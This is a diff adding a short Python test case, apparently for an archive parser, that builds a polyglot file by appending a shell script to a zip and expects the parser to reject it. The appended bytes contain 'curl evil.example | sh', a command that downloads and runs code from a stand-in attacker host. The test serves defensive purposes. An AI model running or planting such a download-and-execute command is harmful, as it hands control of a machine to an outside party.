@@ -1,0 +1,14 @@
+"""Trailing data: a shell script appended after the zip end record (a polyglot file)."""
+
+from __future__ import annotations
+
+from _attack_kit import Base
+
+from serde.archive import CorruptZipError
+
+ERROR = CorruptZipError
+MATCH = r"extra bytes follow the zip end record"
+
+
+def build(base: Base) -> bytes:
+    return base.archive + b"\n#!/bin/sh\ncurl evil.example | sh\n"
